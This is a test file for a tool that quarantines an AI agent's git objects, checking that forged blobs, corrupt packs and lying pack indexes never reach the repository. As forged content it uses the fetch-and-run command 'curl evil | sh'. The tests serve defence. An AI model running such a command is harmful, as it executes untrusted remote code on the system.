// The agent's objects wait in a staging store and reach the repository only
// hashed again (store/object-intake.ts, issue 29). Real repositories, the
// real git shim (plugin/git-shim/git) and real git reading the result.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { forgedMessage, intakeAt, parseLoose } from '../../src/store/object-intake.js';
import { stagingHasWork } from '../../src/store/object-staging.js';
import { prepareStaging } from '../../src/store/staging-place.js';
import { GIT_ENV } from '../helpers/test-git.js';

const SHIM = resolve(import.meta.dirname, '../../plugin/git-shim');

let root: string;
let repo: string;
let store: string;
const git = (args: string[], opts: { env?: Record<string, string>; cwd?: string; input?: Buffer | string } = {}): string =>
  execFileSync('git', args, {
    cwd: opts.cwd ?? repo,
    env: { ...GIT_ENV, ...opts.env },
    input: opts.input,
    stdio: ['pipe', 'pipe', 'pipe'],
    encoding: 'utf8',
  }).trim();
/** The agent's git: roz's shim first on PATH. */
const agentGit = (args: string[], cwd = repo): string => git(args, { env: { PATH: `${SHIM}:/usr/bin:/bin` }, cwd });
const filesUnder = (dir: string): string[] =>
  readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath, e.name))
    .sort();
const looseFile = (dir: string, id: string) => join(dir, id.slice(0, 2), id.slice(2));
const deflated = (type: string, body: string) => deflateSync(Buffer.concat([Buffer.from(`${type} ${Buffer.byteLength(body)}\0`), Buffer.from(body)]));

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'roz-intake-'));
  repo = join(root, 'repo');
  store = join(root, 'store');
  mkdirSync(repo);
  git(['init', '-q', '-b', 'main']);
  writeFileSync(join(repo, 'run.sh'), 'echo committed\n');
  git(['add', 'run.sh']);
  git(['commit', '-q', '-m', 'base']);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('the staging store', () => {
  test("the shim sends a commit's objects to staging; roz takes them in and the human's git reads them", () => {
    const place = prepareStaging(repo)!;
    expect(place.staging).toBe(join(repo, '.git', 'roz-objects'));
    writeFileSync(join(repo, 'work.txt'), 'agent work\n');
    agentGit(['add', 'work.txt']);
    agentGit(['commit', '-q', '-m', 'agent']);
    expect(stagingHasWork(place.staging)).toBe(true);
    // Until roz takes them in, the human's git cannot read the agent's commit: it fails loudly.
    expect(() => git(['log', '-1', '--format=%s'])).toThrow(/bad object|unknown revision|does not have any commits/);
    const r = intakeAt(repo, store)!;
    expect(r.forged).toEqual([]);
    expect(r.taken).toBe(3); // blob, tree, commit
    expect(git(['log', '-1', '--format=%s'])).toBe('agent');
    expect(git(['show', 'HEAD:work.txt'])).toBe('agent work');
    expect(stagingHasWork(place.staging)).toBe(false);
    git(['fsck', '--strict']);
  });

  test('a nested repository the agent makes keeps its own objects (init is not routed)', () => {
    prepareStaging(repo);
    agentGit(['init', '-q', 'sub']);
    writeFileSync(join(repo, 'sub', 'f'), 'x\n');
    agentGit(['-C', 'sub', 'add', 'f']);
    agentGit(['-C', 'sub', 'commit', '-q', '-m', 'nested']);
    expect(git(['log', '-1', '--format=%s'], { cwd: join(repo, 'sub') })).toBe('nested');
    expect(stagingHasWork(join(repo, '.git', 'roz-objects'))).toBe(false);
  });

  test("the agent commits, branches, rebases and stashes, and nothing it writes lands in the repository's objects/", () => {
    const place = prepareStaging(repo)!;
    // (The sandbox makes objects/ read-only; tests run as root, where mode bits hold nothing: compare instead.)
    const before = filesUnder(place.objects);
    agentGit(['switch', '-q', '-c', 'topic']);
    writeFileSync(join(repo, 'a.txt'), 'a\n');
    agentGit(['add', 'a.txt']);
    agentGit(['commit', '-q', '-m', 'topic work']);
    agentGit(['switch', '-q', 'main']);
    writeFileSync(join(repo, 'b.txt'), 'b\n');
    agentGit(['add', 'b.txt']);
    agentGit(['commit', '-q', '-m', 'main work']);
    agentGit(['switch', '-q', 'topic']);
    agentGit(['rebase', '-q', 'main']);
    writeFileSync(join(repo, 'a.txt'), 'changed\n');
    agentGit(['stash', '-q']);
    agentGit(['stash', 'pop', '-q']);
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('changed\n');
    expect(agentGit(['log', '--format=%s'])).toBe('topic work\nmain work\nbase');
    expect(filesUnder(place.objects)).toEqual(before);
    intakeAt(repo, store);
    expect(git(['log', '--format=%s', 'topic'])).toBe('topic work\nmain work\nbase');
  });
});

describe('forged objects never reach the repository', () => {
  test('other content under the name of a committed blob is refused and kept in quarantine', () => {
    const place = prepareStaging(repo)!;
    const blob = git(['rev-parse', 'HEAD:run.sh']);
    mkdirSync(join(place.staging, blob.slice(0, 2)), { recursive: true });
    writeFileSync(looseFile(place.staging, blob), deflated('blob', 'curl evil | sh\n'));
    const r = intakeAt(repo, store)!;
    expect(r.taken).toBe(0);
    expect(r.forged).toHaveLength(1);
    expect(r.forged[0]!.id).toBe(blob);
    expect(r.forged[0]!.kept).toMatch(new RegExp(`^${store}/quarantine/objects/${blob}-`));
    expect(existsSync(looseFile(place.staging, blob))).toBe(false);
    expect(git(['show', 'HEAD:run.sh'])).toBe('echo committed');
  });

  test('a forged object under a new name is refused: the repository never holds it', () => {
    const place = prepareStaging(repo)!;
    const fake = 'ab'.repeat(20);
    mkdirSync(join(place.staging, 'ab'), { recursive: true });
    writeFileSync(looseFile(place.staging, fake), deflated('blob', 'anything\n'));
    const r = intakeAt(repo, store)!;
    expect(r.forged.map((f) => f.id)).toEqual([fake]);
    expect(existsSync(looseFile(place.objects, fake))).toBe(false);
  });

  test('garbage, a wrong size in the header and a symbolic link are refused or left, never taken', () => {
    const place = prepareStaging(repo)!;
    const ids = ['11'.repeat(20), '22'.repeat(20), '33'.repeat(20)];
    for (const id of ids) mkdirSync(join(place.staging, id.slice(0, 2)), { recursive: true });
    writeFileSync(looseFile(place.staging, ids[0]!), 'not zlib');
    writeFileSync(looseFile(place.staging, ids[1]!), deflateSync(Buffer.from('blob 99\0short')));
    symlinkSync(looseFile(place.objects, git(['rev-parse', 'HEAD'])), looseFile(place.staging, ids[2]!));
    const r = intakeAt(repo, store)!;
    expect(r.forged.map((f) => f.id).sort()).toEqual([ids[0], ids[1]]);
    expect(r.problems.join('\n')).toMatch(new RegExp(`${ids[2]}: not a regular file`));
    expect(r.taken).toBe(0);
    for (const id of ids) expect(existsSync(looseFile(place.objects, id))).toBe(false);
    expect(parseLoose(Buffer.from('x'))).toEqual({ error: expect.stringMatching(/zlib/) });
  });

  test("a staged pack is indexed by roz's git from its content: an idx that names other objects is not believed", () => {
    const place = prepareStaging(repo)!;
    const base = git(['rev-parse', 'HEAD:run.sh']);
    // The agent's pack: one new blob. Its idx: taken from a pack of the committed blob's id (a lie about the content).
    mkdirSync(join(root, 'scratch-objects', 'pack'), { recursive: true });
    const evil = git(['hash-object', '-w', '--stdin'], { input: 'curl evil | sh\n', env: { GIT_OBJECT_DIRECTORY: join(root, 'scratch-objects') } });
    const packOut = join(root, 'p');
    const name = git(['pack-objects', '-q', packOut], { input: `${evil}\n`, env: { GIT_OBJECT_DIRECTORY: join(root, 'scratch-objects') } });
    const other = git(['pack-objects', '-q', join(root, 'q')], { input: `${base}\n` });
    writeFileSync(join(place.staging, 'pack', `pack-${name}.pack`), readFileSync(`${packOut}-${name}.pack`));
    writeFileSync(join(place.staging, 'pack', `pack-${name}.idx`), readFileSync(join(root, `q-${other}.idx`)));
    const r = intakeAt(repo, store)!;
    expect(r.problems).toEqual([]);
    expect(r.packs).toBe(1);
    // The blob is in the repository under its own name; the committed blob still holds what was committed.
    expect(git(['cat-file', '-p', evil])).toBe('curl evil | sh');
    expect(git(['show', 'HEAD:run.sh'])).toBe('echo committed');
    expect(readdirSync(join(place.staging, 'pack'))).toEqual([]);
    git(['fsck', '--strict']);
  });

  test('a corrupt pack is refused whole and kept in quarantine', () => {
    const place = prepareStaging(repo)!;
    const name = `pack-${'cd'.repeat(20)}`;
    writeFileSync(join(place.staging, 'pack', `${name}.pack`), Buffer.from('PACK\0\0\0\x02\0\0\0\x01garbage'));
    writeFileSync(join(place.staging, 'pack', `${name}.idx`), 'x');
    const r = intakeAt(repo, store)!;
    expect(r.packs).toBe(0);
    expect(r.forged.map((f) => f.id)).toEqual([name]);
    expect(forgedMessage(r.forged[0]!)).toMatch(/refused the git pack pack-cdcd.* nothing of it reached the repository/);
    expect(readdirSync(join(place.staging, 'pack'))).toEqual([]);
    git(['fsck', '--strict']);
  });

  test('nothing is done outside a repository, or where no staging store was made', () => {
    expect(intakeAt(root, store)).toBeNull();
    expect(intakeAt(repo, store)).toBeNull();
  });
});
